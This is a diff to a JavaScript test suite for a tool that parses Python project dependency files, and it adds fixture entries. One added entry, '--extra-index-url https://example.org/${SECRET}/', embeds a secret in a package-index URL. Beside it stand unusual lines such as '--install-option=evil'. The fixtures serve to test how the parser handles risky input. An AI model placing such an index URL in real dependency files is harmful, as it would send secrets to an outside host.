@@ -25,6 +25,7 @@ describe('what a Python project asks for', () => {
         'odd @ git+https://example.org/y.git',
         '../elsewhere',
         '--install-option=evil',
+        '--extra-index-url https://example.org/$' + '{SECRET}/',
       ].join('\n'),
       'deps/base.txt': 'base==1\n-r ../requirements.txt\n',
       'deps/pins.txt': 'flask==2.3\n',
@@ -46,6 +47,7 @@ describe('what a Python project asks for', () => {
           'odd @ git+https://example.org/y.git',
           '../elsewhere',
           '--install-option=evil',
+          '--extra-index-url https://example.org/$' + '{SECRET}/',
         ],
       },
     );
@@ -55,6 +57,7 @@ describe('what a Python project asks for', () => {
     const toml = `[project]
 name = "x"
 dependencies = [
+  "odd @ https://example.org/x.whl",
   "flask>=2", # web
   'click[extra]~=8.0',
 ]
